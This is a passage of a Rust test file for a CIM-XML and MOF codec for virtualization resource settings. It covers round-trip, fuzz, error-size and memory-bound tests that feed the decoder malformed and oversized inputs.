                PoolSettingData::from_instance(&decoded(&encode(&instance, encoding))).unwrap();
            if encoding == Encoding::CimXml {
                assert_eq!(back, view);
            } else {
                // MOF loses declared types of the unknown properties only.
                assert_eq!(
                    PoolSettingData {
                        other: vec![],
                        ..back
                    },
                    PoolSettingData {
                        other: vec![],
                        ..view.clone()
                    }
                );
            }
        }
    }
    for text in [RASD_WMIDTD20, SASD_CIMDTD20, RASD_MOF] {
        let view = AllocationSettingData::from_instance(&decoded(text)).unwrap();
        let instance = view.to_instance();
        let types: Vec<(String, CimType, bool)> = instance
            .properties
            .iter()
            .filter(|p| AllocationSettingData::KNOWN.contains(&p.name.as_str()))
            .map(|p| (p.name.clone(), p.cim_type, p.is_array))
            .collect();
        for (name, cim_type, is_array) in types {
            let expected = match name.as_str() {
                "ResourceType" => CimType::Uint16,
                "VirtualQuantity" | "Reservation" | "Limit" => CimType::Uint64,
                "Weight" => CimType::Uint32,
                _ => CimType::String,
            };
            assert_eq!(
                (cim_type, is_array),
                (expected, name == "HostResource"),
                "{name}"
            );
        }
        let back =
            AllocationSettingData::from_instance(&decoded(&encode(&instance, Encoding::CimXml)))
                .unwrap();
        assert_eq!(back, view);
    }
}

#[test]
fn to_instance_omits_none_fields_and_keeps_others_last() {
    let view = AllocationSettingData {
        class_name: "Msvm_ResourceAllocationSettingData".into(),
        instance_id: None,
        pool_id: Some("Parent".into()),
        element_name: None,
        resource_type: Some(33),
        other_resource_type: None,
        resource_subtype: Some("Microsoft:Hyper-V:Ethernet Connection".into()),
        host_resource: Some(StringList::new()),
        allocation_units: None,
        virtual_quantity: None,
        reservation: Some(0),
        limit: None,
        weight: None,
        other: vec![
            Property {
                name: "Parent".into(),
                cim_type: CimType::String,
                is_array: false,
                value: PropertyValue::Null,
            },
            // Collides with a known field: the field wins.
            Property {
                name: "POOLID".into(),
                cim_type: CimType::String,
                is_array: false,
                value: PropertyValue::Scalar("other".into()),
            },
        ],
    };
    let i = view.to_instance();
    let names: Vec<&str> = i.properties.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "PoolID",
            "ResourceType",
            "ResourceSubType",
            "HostResource",
            "Reservation",
            "Parent"
        ]
    );
    assert_eq!(i.string("PoolID").unwrap().as_deref(), Some("Parent"));
    assert_eq!(
        i.property("HostResource").unwrap().value,
        PropertyValue::Array(vec![])
    );
}

// ------------------------------------------------------------------------------------------
// Properties of generated instances

/// One generated value, with the text and type a MOF round trip must give it (computed here,
/// independently of the codec's `mof_normal_form`).
#[derive(Clone, Debug)]
struct Gen {
    text: String,
    mof_type: CimType,
    mof_text: String,
}

fn identifier() -> impl Strategy<Value = String> {
    "[A-Za-z_][A-Za-z0-9_]{0,12}"
}

/// Strings XML 1.0 can carry, biased towards characters that need escaping.
fn xml_string() -> impl Strategy<Value = String> {
    prop_oneof![
        "[ -~]{0,12}",
        "[ <>&\"'\\]\\[\r\n\t\\\\;{}]{0,8}",
        any::<String>().prop_map(|s| s
            .chars()
            .filter(|c| matches!(c, '\t' | '\n' | '\r')
                || (*c >= ' ' && !matches!(c, '\u{FFFE}' | '\u{FFFF}')))
            .take(12)
            .collect()),
    ]
}

fn any_string() -> impl Strategy<Value = String> {
    prop_oneof![
        xml_string(),
        any::<String>().prop_map(|s| s.chars().take(12).collect())
    ]
}

fn int_value(cim_type: CimType) -> BoxedStrategy<Gen> {
    let (min, max): (i128, i128) = match cim_type {
        CimType::Uint8 => (0, u8::MAX.into()),
        CimType::Sint8 => (i8::MIN.into(), i8::MAX.into()),
        CimType::Uint16 => (0, u16::MAX.into()),
        CimType::Sint16 => (i16::MIN.into(), i16::MAX.into()),
        CimType::Uint32 => (0, u32::MAX.into()),
        CimType::Sint32 => (i32::MIN.into(), i32::MAX.into()),
        CimType::Uint64 => (0, u64::MAX.into()),
        _ => (i64::MIN.into(), i64::MAX.into()),
    };
    let edges = prop_oneof![Just(min), Just(max), Just(0i128), Just(1i128)];
    let any_in_range = (0u128..=(max - min) as u128).prop_map(move |offset| min + offset as i128);
    (prop_oneof![edges, any_in_range], 0..3u8)
        .prop_map(move |(v, form)| {
            let text = match form {
                0 => v.to_string(),
                1 if v >= 0 => format!("0x{v:X}"),
                _ if v >= 0 => format!("+{v}"),
                _ => v.to_string(),
            };
            let mof_type = if v < 0 {
                CimType::Sint64
            } else {
                CimType::Uint64
            };
            Gen {
                text,
                mof_type,
                mof_text: v.to_string(),
            }
        })
        .boxed()
}

fn real_value(cim_type: CimType) -> BoxedStrategy<Gen> {
    let finite = if cim_type == CimType::Real32 {
        any::<f32>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(|f| format!("{f:?}"))
            .boxed()
    } else {
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(|f| format!("{f:?}"))
            .boxed()
    };
    prop_oneof![
        4 => finite,
        1 => prop_oneof![Just("INF".to_string()), Just("-INF".to_string()), Just("NaN".to_string())],
    ]
    .prop_map(|text| {
        // The MOF literal needs a decimal point in the mantissa.
        let mof_text = match text.find(['e', 'E']) {
            _ if text.ends_with("INF") || text == "NaN" => text.clone(),
            Some(e) if !text[..e].contains('.') => format!("{}.0{}", &text[..e], &text[e..]),
            None if !text.contains('.') => format!("{text}.0"),
            _ => text.clone(),
        };
        Gen { text, mof_type: CimType::Real64, mof_text }
    })
    .boxed()
}

fn datetime_value() -> BoxedStrategy<Gen> {
    let timestamp = (
        0u32..10000,
        1u32..13,
        1u32..32,
        0u32..24,
        0u32..60,
        0u32..61,
        0u32..1_000_000,
        prop::bool::ANY,
        0u32..1000,
    )
        .prop_map(|(y, mo, d, h, mi, s, us, plus, utc)| {
            format!(
                "{y:04}{mo:02}{d:02}{h:02}{mi:02}{s:02}.{us:06}{}{utc:03}",
                if plus { '+' } else { '-' }
            )
        });
    let interval = (
        0u32..100_000_000,
        0u32..24,
        0u32..60,
        0u32..60,
        0u32..1_000_000,
    )
        .prop_map(|(d, h, mi, s, us)| format!("{d:08}{h:02}{mi:02}{s:02}.{us:06}:000"));
    prop_oneof![timestamp, interval]
        .prop_map(|text| Gen {
            mof_text: text.clone(),
            text,
            mof_type: CimType::String,
        })
        .boxed()
}

/// An object path in the codec's canonical rendering, built here from parts.
fn reference_value() -> BoxedStrategy<Gen> {
    let key_value = prop_oneof![
        xml_string().prop_map(|s| {
            let escaped: String = s
                .chars()
                .flat_map(|c| {
                    if c == '"' || c == '\\' {
                        vec!['\\', c]
                    } else {
                        vec![c]
                    }
                })
                .collect();
            format!("\"{escaped}\"")
        }),
        prop_oneof![Just("TRUE".to_string()), Just("false".to_string())],
        any::<i64>().prop_map(|v| v.to_string()),
    ];
    let keys = prop_oneof![
        Just(String::new()),
        Just("=@".to_string()),
        key_value.clone().prop_map(|v| format!("={v}")),
        prop::collection::vec((identifier(), key_value), 1..3).prop_map(|bindings| {
            let parts: Vec<String> = bindings
                .into_iter()
                .map(|(k, v)| format!("{k}={v}"))
                .collect();
            format!(".{}", parts.join(","))
        }),
    ];
    let prefix = prop_oneof![
        Just(String::new()),
        prop::collection::vec(identifier(), 1..4).prop_map(|ns| format!("/{}:", ns.join("/"))),
        (
            "[a-z][a-z0-9.-]{0,10}(:[0-9]{1,4})?",
            prop::collection::vec(identifier(), 1..3)
        )
            .prop_map(|(host, ns)| format!("//{host}/{}:", ns.join("/"))),
    ];
    (prefix, identifier(), keys)
        .prop_map(|(prefix, class, keys)| {
            let text = format!("{prefix}{class}{keys}");
            Gen {
                mof_text: text.clone(),
                text,
                mof_type: CimType::String,
            }
        })
        .boxed()
}

/// A valid value of `cim_type`; `xml_safe` restricts strings to what XML 1.0 can carry.
fn value_of(cim_type: CimType, xml_safe: bool) -> BoxedStrategy<Gen> {
    let same = |t: CimType| {
        move |text: String| Gen {
            mof_text: text.clone(),
            text,
            mof_type: t,
        }
    };
    match cim_type {
        CimType::String if xml_safe => xml_string().prop_map(same(CimType::String)).boxed(),
        CimType::String => any_string().prop_map(same(CimType::String)).boxed(),
        CimType::Boolean => "[tT][rR][uU][eE]|[fF][aA][lL][sS][eE]"
            .prop_map(|text| Gen {
                mof_text: text.to_uppercase(),
                text,
                mof_type: CimType::Boolean,
            })
            .boxed(),
        CimType::Char16 if xml_safe => "[ -~\u{A0}-\u{D7FF}\u{E000}-\u{FFFD}]"
            .prop_map(same(CimType::Char16))
            .boxed(),
        CimType::Char16 => "[\u{1}-\u{D7FF}\u{E000}-\u{FFFF}]"
            .prop_map(same(CimType::Char16))
            .boxed(),
        CimType::Datetime => datetime_value(),
        CimType::Real32 | CimType::Real64 => real_value(cim_type),
        CimType::Reference => reference_value(),
        t => int_value(t),
    }
}

/// A property and its expected MOF round-trip form.
fn property(xml_safe: bool) -> impl Strategy<Value = (Property, Property)> {
    (
        identifier(),
        prop::sample::select(CimType::ALL.to_vec()),
        prop::bool::ANY,
        0..8u8,
    )
        .prop_flat_map(move |(name, cim_type, is_array, null_roll)| {
            let is_array = is_array && cim_type != CimType::Reference;
            let null_property = (name.clone(), cim_type, is_array);
            if null_roll == 0 {
                let (name, cim_type, is_array) = null_property;
                let p = Property {
                    name: name.clone(),
                    cim_type,
                    is_array,
                    value: PropertyValue::Null,
                };
                let m = Property {
                    name,
                    cim_type: CimType::String,
                    is_array: false,
                    value: PropertyValue::Null,
                };
                return Just((p, m)).boxed();
            }
            if !is_array {
                return value_of(cim_type, xml_safe)
                    .prop_map(move |g| {
                        let value = if cim_type == CimType::Reference {
                            PropertyValue::Reference(g.text)
                        } else {
                            PropertyValue::Scalar(g.text)
                        };
                        let p = Property {
                            name: name.clone(),
                            cim_type,
                            is_array: false,
                            value,
                        };
                        let m = Property {
                            name: name.clone(),
                            cim_type: g.mof_type,
                            is_array: false,
                            value: PropertyValue::Scalar(g.mof_text),
                        };
                        (p, m)
                    })
                    .boxed();
            }
            prop::collection::vec(
                prop::option::weighted(0.8, value_of(cim_type, xml_safe)),
                0..5,
            )
            .prop_map(move |items| {
                let present: Vec<&Gen> = items.iter().flatten().collect();
                let mof_type = if present.is_empty() {
                    CimType::String
                } else if present.iter().any(|g| g.mof_type == CimType::Sint64) {
                    CimType::Sint64
                } else {
                    present[0].mof_type
                };
                let p = Property {
                    name: name.clone(),
                    cim_type,
                    is_array: true,
                    value: PropertyValue::Array(
                        items
                            .iter()
                            .map(|g| g.as_ref().map(|g| g.text.clone()))
                            .collect(),
                    ),
                };
                let m = Property {
                    name: name.clone(),
                    cim_type: mof_type,
                    is_array: true,
                    value: PropertyValue::Array(
                        items
                            .iter()
                            .map(|g| g.as_ref().map(|g| g.mof_text.clone()))
                            .collect(),
                    ),
                };
                (p, m)
            })
            .boxed()
        })
}

/// A valid instance and its expected MOF round-trip form.
/// `text` with up to `remove` bytes from a place `at` picks replaced by `insert`, both ends
/// moved back to character boundaries.
fn mutated(text: &str, at: prop::sample::Index, remove: usize, insert: &str) -> String {
    let mut text = text.to_string();
    let mut start = at.index(text.len());
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    let mut end = (start + remove).min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.replace_range(start..end, insert);
    text
}

fn instance(xml_safe: bool) -> impl Strategy<Value = (Instance, Instance)> {
    (
        identifier(),
        prop::collection::vec(property(xml_safe), 0..8),
    )
        .prop_map(|(class_name, pairs)| {
            let mut seen = HashSet::new();
            let (properties, mof_properties): (Vec<Property>, Vec<Property>) = pairs
                .into_iter()
                .filter(|(p, _)| seen.insert(p.name.to_lowercase()))
                .unzip();
            (
                Instance {
                    class_name: class_name.clone(),
                    properties,
                },
                Instance {
                    class_name,
                    properties: mof_properties,
                },
            )
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn cim_xml_round_trip_is_the_identity((i, _) in instance(true)) {
        prop_assert_eq!(i.validate(), Ok(()));
        let text = try_encode(&i, Encoding::CimXml).unwrap();
        prop_assert_eq!(decode(&text), Ok(i));
    }

    #[test]
    fn mof_round_trip_is_the_identity_up_to_literal_typing((i, expected) in instance(false)) {
        prop_assert_eq!(i.validate(), Ok(()));
        let text = try_encode(&i, Encoding::Mof).unwrap();
        prop_assert_eq!(mof_normal_form(&i), expected.clone());
        prop_assert_eq!(decode(&text), Ok(expected));
    }

    #[test]
    fn mof_normal_form_is_a_fixed_point_through_mof((i, _) in instance(false)) {
        let once = decode(&encode(&i, Encoding::Mof)).unwrap();
        prop_assert_eq!(decode(&encode(&once, Encoding::Mof)), Ok(once));
    }

    #[test]
    fn every_proper_prefix_of_a_cim_xml_encoding_is_refused((i, _) in instance(true), cut in any::<prop::sample::Index>()) {
        let text = encode(&i, Encoding::CimXml);
        let mut at = cut.index(text.len());
        while !text.is_char_boundary(at) {
            at -= 1;
        }
        prop_assert!(decode(&text[..at]).is_err(), "prefix {:?} decoded", &text[..at]);
    }

    #[test]
    fn decoding_arbitrary_text_returns_without_panicking(text in any::<String>()) {
        let _ = decode(&text);
        let _ = decode(&format!("<INSTANCE CLASSNAME=\"C\">{text}</INSTANCE>"));
        let _ = decode(&format!("instance of C {{ {text} }};"));
    }

    #[test]
    fn decoding_mutated_realistic_input_returns_without_panicking(
        source in prop::sample::select(vec![RPSD_WMIDTD20, RPSD_CIMDTD20, RASD_WMIDTD20, SASD_CIMDTD20, RPSD_MOF, RASD_MOF]),
        at in any::<prop::sample::Index>(),
        insert in "[<>&;\"'/=\\[\\]{}#x0-9A-Z.!-]{0,4}",
        remove in 0usize..6,
    ) {
        let text = mutated(source, at, remove, &insert);
        // The common-case decoder, whenever it accepts, agrees with the full decoder.
        check_fast_path(&text);
        if let Ok(i) = decode(&text) {
            // Whatever decodes must be valid by the codec's own rules.
            prop_assert_eq!(i.validate(), Ok(()));
        }
    }

    #[test]
    fn typed_views_round_trip(
        pool_id in prop::option::of(xml_string()),
        resource_type in prop::option::of(any::<u16>()),
        reservation in prop::option::of(any::<u64>()),
        weight in prop::option::of(any::<u32>()),
        host_resource in prop::option::of(prop::collection::vec(xml_string(), 0..3)),
    ) {
        let view = AllocationSettingData {
            class_name: "Msvm_ResourceAllocationSettingData".into(),
            instance_id: None,
            pool_id: pool_id.clone(),
            element_name: Some("e".into()),
            resource_type,
            other_resource_type: None,
            resource_subtype: None,
            host_resource: host_resource.map(StringList::from),
            allocation_units: None,
            virtual_quantity: None,
            reservation,
            limit: None,
            weight,
            other: vec![],
        };
        for encoding in [Encoding::CimXml, Encoding::Mof] {
            let back = AllocationSettingData::from_instance(&decode(&encode(&view.to_instance(), encoding)).unwrap()).unwrap();
            if encoding == Encoding::Mof && view.host_resource.as_ref().is_some_and(StringList::is_empty) {
                // `{}` decodes as an empty string array: still Some(vec![]).
                prop_assert_eq!(back.host_resource.clone(), Some(StringList::new()));
            }
            prop_assert_eq!(&back, &view);
        }
        let pool = PoolSettingData {
            class_name: "CIM_ResourcePoolSettingData".into(),
            instance_id: None,
            pool_id,
            element_name: None,
            resource_type,
            other_resource_type: None,
            resource_subtype: None,
            notes: Some("n".into()),
            other: vec![],
        };
        prop_assert_eq!(PoolSettingData::from_instance(&pool.to_instance()), Ok(pool));
    }
}

// ------------------------------------------------------------------------------------------
// Errors stay small, whatever the input

#[test]
fn errors_are_bounded_whatever_the_size_of_the_input() {
    use poolcheck::codec::fuzz::MAX_ERROR_CHARS;
    let huge = "A".repeat(60_000);
    let inputs = [
        format!("<{huge}/>"),
        xml_instance(&format!("<{huge}/>")),
        format!("<INSTANCE CLASSNAME=\"{huge}!\"/>"),
        xml_instance(&xml_prop(&huge, "uint8", "300")),
        xml_instance(&format!(
            "{}{}",
            xml_prop(&huge, "uint8", "1"),
            xml_prop(&huge.to_lowercase(), "uint8", "1")
        )),
        xml_instance(&xml_prop("A", &huge, "1")),
        format!("instance of C {{ {huge} = ; }};"),
        format!("instance of {huge} {{ A = 1; A = 2; }};"),
        format!("<INSTANCE CLASSNAME=\"C\"></{huge}>"),
    ];
    for input in &inputs {
        let e = decode_err(input);
        let message = e.to_string();
        assert!(
            message.chars().count() <= MAX_ERROR_CHARS,
            "{} characters: {message:.300}",
            message.chars().count()
        );
        assert_eq!(e.clone().bounded(), e, "not bounded: {e:?}");
    }
    // The views' errors too.
    let wrong = Instance::new(huge.clone());
    let e = PoolSettingData::from_instance(&wrong).unwrap_err();
    assert!(e.to_string().chars().count() <= MAX_ERROR_CHARS);
}

// ------------------------------------------------------------------------------------------
// The fuzz body, as a smoke test: the checked-in vectors, mutations of them, random bytes and
// generated instances in every encoding

/// xorshift64*: a fixed, dependency-free stream of numbers for the mutations.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
}

/// Every checked-in vector and realistic input of this file, as bytes.
fn seed_inputs() -> Vec<Vec<u8>> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/pywbem");
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .expect("tests/data/pywbem reads")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "xml" || e == "mof"))
        .collect();
    files.sort();
    let mut seeds: Vec<Vec<u8>> = files
        .iter()
        .map(|p| std::fs::read(p).expect("vector reads"))
        .collect();
    for text in [
        RPSD_WMIDTD20,
        RPSD_CIMDTD20,
        RASD_WMIDTD20,
        SASD_CIMDTD20,
        RPSD_MOF,
        RASD_MOF,
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
    ] {
        seeds.push(text.as_bytes().to_vec());
    }
    seeds
}

const TOKENS: &[&str] = &[
    "<",
    ">",
    "/>",
    "</",
    "&",
    "&amp;",
    "&#x1;",
    "&#xD;",
    "&#65;",
    "&bogus;",
    "\"",
    "'",
    "=",
    "<![CDATA[",
    "]]>",
    "<!--",
    "-->",
    "<?x?>",
    "<!DOCTYPE x>",
    "<VALUE>",
    "</VALUE>",
    "<VALUE.NULL/>",
    "<PROPERTY NAME=\"Z\" TYPE=\"uint8\">",
    "</PROPERTY>",
    "TYPE=\"real32\"",
    "<QUALIFIER NAME=\"q\" TYPE=\"string\"><VALUE>q</VALUE></QUALIFIER>",
    "{",
    "}",
    ";",
    ",",
    "\\",
    "\\x",
    "NULL",
    "TRUE",
    "-INF",
    "0x",
    "1e999",
    "instance of",
    "[",
    "]",
    "/*",
    "\u{FEFF}",
    "\u{1F600}",
    "\u{0}",
    "\r\n",
];

fn mutate(seed: &[u8], other: &[u8], rng: &mut Rng) -> Vec<u8> {
    let mut bytes = seed.to_vec();
    for _ in 0..1 + rng.below(4) {
        let at = rng.below(bytes.len() + 1);
        match rng.below(6) {
            0 => {
                if let Some(b) = bytes.get_mut(at) {
                    *b ^= 1 << rng.below(8);
                }
            }
            1 => {
                let end = (at + 1 + rng.below(16)).min(bytes.len());
                bytes.drain(at.min(end)..end);
            }
            2 => {
                let token = TOKENS[rng.below(TOKENS.len())].as_bytes();
                bytes.splice(at..at, token.iter().copied());
            }
            3 => bytes.truncate(at),
            4 => {
                let end = (at + 1 + rng.below(64)).min(bytes.len());
                let piece = bytes[at.min(end)..end].to_vec();
                bytes.splice(at..at, piece);
            }
            _ => {
                let from = rng.below(other.len() + 1);
                bytes.truncate(at);
                bytes.extend_from_slice(&other[from..]);
            }
        }
    }
    bytes
}

#[test]
fn fuzz_body_smoke() {
    use poolcheck::codec::fuzz::{decode_body, BodyOutcome};
    use proptest::strategy::ValueTree;
    use proptest::test_runner::{RngAlgorithm, TestRng, TestRunner};

    let mut decoded = 0;
    let mut refused = 0;
    let mut run = |bytes: &[u8]| match decode_body(bytes) {
        BodyOutcome::Decoded(_) => decoded += 1,
        BodyOutcome::Refused(_) => refused += 1,
    };
    let seeds = seed_inputs();
    let mut rng = Rng(0x5EED_C0DE_CAFE_F00D);
    for (i, seed) in seeds.iter().enumerate() {
        run(seed);
        let other = &seeds[(i * 7 + 3) % seeds.len()];
        let mutations = if seed.len() > 8 * 1024 { 10 } else { 60 };
        for _ in 0..mutations {
            run(&mutate(seed, other, &mut rng));
        }
    }
    for _ in 0..500 {
        let len = rng.below(256);
        let bytes: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        run(&bytes);
    }
    let mut runner = TestRunner::new_with_rng(
        ProptestConfig::default(),
        TestRng::from_seed(RngAlgorithm::ChaCha, &[7; 32]),
    );
    let strategy = instance(false);
    for _ in 0..500 {
        let (i, _) = strategy.new_tree(&mut runner).expect("generates").current();
        for encoding in Encoding::ALL {
            run(encode(&i, encoding).as_bytes());
        }
    }
    assert!(decoded >= 1500, "only {decoded} inputs decoded");
    assert!(refused >= 1000, "only {refused} inputs refused");
    assert!(decoded + refused >= 4000);
}

// ------------------------------------------------------------------------------------------
// Memory: decoding uses at most a small multiple of the input's size (measured by a counting
// allocator, per thread, so that tests running in parallel do not disturb one another)

mod counting {
    use std::alloc::{GlobalAlloc, Layout, System};
    use std::cell::Cell;

    pub struct Counting;

    thread_local! {
        static CURRENT: Cell<isize> = const { Cell::new(0) };
        static PEAK: Cell<isize> = const { Cell::new(0) };
    }

    fn add(delta: isize) {
        let _ = CURRENT.try_with(|c| {
            let now = c.get() + delta;
            c.set(now);
            let _ = PEAK.try_with(|p| p.set(p.get().max(now)));
        });
    }

    unsafe impl GlobalAlloc for Counting {
        unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
            let ptr = System.alloc(layout);
            if !ptr.is_null() {
                add(layout.size() as isize);
            }
            ptr
        }

        unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
            let ptr = System.alloc_zeroed(layout);
            if !ptr.is_null() {
                add(layout.size() as isize);
            }
            ptr
        }

        unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
            System.dealloc(ptr, layout);
            add(-(layout.size() as isize));
        }

        unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
            let new = System.realloc(ptr, layout, new_size);
            if !new.is_null() {
                add(new_size as isize - layout.size() as isize);
            }
            new
        }
    }

    /// The most bytes `f` had allocated at once on this thread (what it returns included).
    pub fn peak<T>(f: impl FnOnce() -> T) -> (T, usize) {
        let start = CURRENT.with(Cell::get);
        PEAK.with(|p| p.set(start));
        let out = f();
        let peak = PEAK.with(Cell::get) - start;
        (out, peak.max(0) as usize)
    }
}

#[global_allocator]
static ALLOCATOR: counting::Counting = counting::Counting;

/// Inputs built to make a decoder allocate: many attributes, elements, array elements,
/// entities, properties; deep nesting; long names.
fn hostile_inputs() -> Vec<(String, String)> {
    let attrs: String = (0..6000).map(|k| format!(" a{k}=\"\"")).collect();
    vec![
        ("6000 attributes".into(), format!("<INSTANCE CLASSNAME=\"C\"{attrs}/>")),
        (
            "many comments".into(),
            xml_instance(&"<!---->".repeat(9000)),
        ),
        (
            "1024 NULL array elements".into(),
            xml_instance(&format!(
                "<PROPERTY.ARRAY NAME=\"A\" TYPE=\"uint8\"><VALUE.ARRAY>{}</VALUE.ARRAY></PROPERTY.ARRAY>",
                "<VALUE.NULL/>".repeat(1024)
            )),
        ),
        (
            "1024 empty array values".into(),
            xml_instance(&format!(
                "<PROPERTY.ARRAY NAME=\"A\" TYPE=\"string\"><VALUE.ARRAY>{}</VALUE.ARRAY></PROPERTY.ARRAY>",
                "<VALUE/>".repeat(1024)
            )),
        ),
        (
            "MOF array of 1024 small integers".into(),
            format!("instance of C {{ A = {{{}0}}; }};", "0,".repeat(1023)),
        ),
        (
            "MOF array of 1024 NULLs".into(),
            format!("instance of C {{ A = {{{}NULL}}; }};", "NULL,".repeat(1023)),
        ),
        (
            "MOF 256 properties".into(),
            format!(
                "instance of C {{ {} }};",
                (0..256).map(|k| format!("P{k}=1;")).collect::<String>()
            ),
        ),
        ("256 properties".into(), many_properties(256)),
        (
            "entities".into(),
            xml_instance(&xml_prop("A", "string", &"&amp;&#x41;".repeat(1400))),
        ),
        (
            "deep nesting".into(),
            format!("{}{}", "<INSTANCE CLASSNAME=\"C\">", "<QUALIFIER>".repeat(20_000)),
        ),
        ("billion laughs".into(), BILLION_LAUGHS.to_string()),
        ("long name".into(), format!("<{}/>", "N".repeat(60_000))),
        (
            "namespace components".into(),
            reference_xml(&format!(
                "<LOCALINSTANCEPATH><LOCALNAMESPACEPATH>{}</LOCALNAMESPACEPATH><INSTANCENAME CLASSNAME=\"C\"/></LOCALINSTANCEPATH>",
                "<NAMESPACE NAME=\"n\"/>".repeat(1024)
            )),
        ),
    ]
}

/// Peak bytes allocated while decoding, against the input's size: at most
/// `MEMORY_FACTOR * len + MEMORY_SLACK`.
const MEMORY_FACTOR: usize = 16;
const MEMORY_SLACK: usize = 16 * 1024;

#[test]
fn decoding_memory_is_bounded_by_a_small_multiple_of_the_input() {
    let mut inputs: Vec<(String, String)> = seed_inputs()
        .into_iter()
        .enumerate()
        .map(|(i, bytes)| {
            (
                format!("seed #{i}"),
                String::from_utf8(bytes).expect("UTF-8"),
            )
        })
        .collect();
    inputs.extend(hostile_inputs());
    let mut report = Vec::new();
    for (label, text) in &inputs {
        let (result, peak) = counting::peak(|| decode(text));
        let bound = MEMORY_FACTOR * text.len() + MEMORY_SLACK;
        report.push(format!(
            "{label:>34}: {:>6} bytes in, peak {:>7} bytes ({:.2}x), {}",
            text.len(),
            peak,
            peak as f64 / text.len().max(1) as f64,
            if result.is_ok() { "decoded" } else { "refused" }
        ));
        assert!(
            peak <= bound,
            "{label}: decoding {} bytes allocated {peak} bytes at once (bound {bound})\n{}",
            text.len(),
            report.join("\n")
        );
    }
    println!("{}", report.join("\n"));
}

// ------------------------------------------------------------------------------------------
// Character references: the decoder's unescaping agrees with quick-xml's

fn reference_soup() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            "[a-z ;#x0-9]{0,4}",
            Just("&amp;".to_string()),
            Just("&lt;".to_string()),
            Just("&gt;".to_string()),
            Just("&quot;".to_string()),
            Just("&apos;".to_string()),
            Just("&".to_string()),
            Just(";".to_string()),
            "&#[0-9]{1,8};",
            "&#x[0-9a-fA-F]{1,7};",
            "&#x(FFFE|FFFF|D800|110000|0|1F|20|7F);",
            "&#[xX+-]?[0-9a-fA-F]{0,3};",
            "&[a-zA-Z]{1,12};",
            "&[a-z]{1,3}",
        ],
        0..6,
    )
    .prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2048))]

    #[test]
    fn unescaping_agrees_with_quick_xml(raw in reference_soup()) {
        let text = xml_instance(&xml_prop("A", "string", &raw));
        let expected = quick_xml::escape::unescape(&raw)
            .ok()
            .filter(|s| {
                !s.chars().any(|c| {
                    (c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{FFFE}' | '\u{FFFF}')
                })
            });
        match (decode(&text), expected) {
            (Ok(i), Some(s)) => prop_assert_eq!(
                &i.properties[0].value,
                &PropertyValue::Scalar(s.into_owned())
            ),
            (Err(CodecError::Xml { .. }), None) => {}
            (got, want) => prop_assert!(false, "{raw:?}: decoded {got:?}, quick-xml says {want:?}"),
        }
    }
}

#[test]
fn duplicate_names_are_found_ignoring_case_beyond_ascii() {
    let text = xml_instance(&format!(
        "{}{}",
        xml_prop("Größe", "uint8", "1"),
        xml_prop("GRÖSSE", "uint8", "2")
    ));
    // "Größe" and "GRÖSSE" differ ("ß" lower-cases to itself); "Ä" and "ä" do not.
    assert!(decode(&text).is_ok());
    let text = xml_instance(&format!(
        "{}{}",
        xml_prop("Äb", "uint8", "1"),
        xml_prop("äB", "uint8", "2")
    ));
    assert!(matches!(
        decode(&text),
        Err(CodecError::DuplicateProperty { .. })
    ));
}

// ---------------------------------------------------------------------------------------------
// Borrowed decoding, the common-case decoder and the direct typed views

/// A compact allocation as clients write it: the common-case decoder's input.
const RASD_COMPACT: &str = "<INSTANCE CLASSNAME=\"Msvm_EthernetPortAllocationSettingData\">\
<PROPERTY NAME=\"Address\" TYPE=\"string\" PROPAGATED=\"true\"/>\
<PROPERTY NAME=\"ElementName\" TYPE=\"string\"><VALUE>A &amp; B</VALUE></PROPERTY>\
<PROPERTY.ARRAY NAME=\"HostResource\" TYPE=\"string\"><VALUE.ARRAY><VALUE>x&quot;y&#x41;</VALUE>\
<VALUE>z</VALUE></VALUE.ARRAY></PROPERTY.ARRAY>\
<PROPERTY NAME=\"Limit\" TYPE=\"uint64\"><VALUE> 0x10 </VALUE></PROPERTY>\
<PROPERTY NAME=\"ResourceType\" TYPE=\"uint16\"><VALUE>33</VALUE></PROPERTY>\
<PROPERTY NAME=\"Weight\" TYPE=\"uint32\"><VALUE>100</VALUE></PROPERTY></INSTANCE>";

#[test]
fn borrowed_decoding_borrows_what_needs_no_unescaping() {
    let b = decode_borrowed(RASD_COMPACT).unwrap();
    assert!(matches!(b.class_name, Cow::Borrowed(_)));
    assert!(b
        .properties
        .iter()
        .all(|p| matches!(p.name, Cow::Borrowed(_))));
    let value = |name: &str| b.property(name).map(|p| p.value.clone());
    assert_eq!(
        value("ElementName"),
        Some(BorrowedValue::Scalar(Cow::Owned("A & B".into())))
    );
    assert!(matches!(
        value("ResourceType"),
        Some(BorrowedValue::Scalar(Cow::Borrowed("33")))
    ));
    // Trimmed, not copied.
    assert!(matches!(
        value("Limit"),
        Some(BorrowedValue::Scalar(Cow::Borrowed("0x10")))
    ));
    assert_eq!(b, decode(RASD_COMPACT).unwrap());
    assert_eq!(b.into_owned(), decode(RASD_COMPACT).unwrap());
    assert!(
        check_fast_path(RASD_COMPACT),
        "the compact form takes the common path"
    );
}

#[test]
fn direct_typed_views_equal_decode_then_view() {
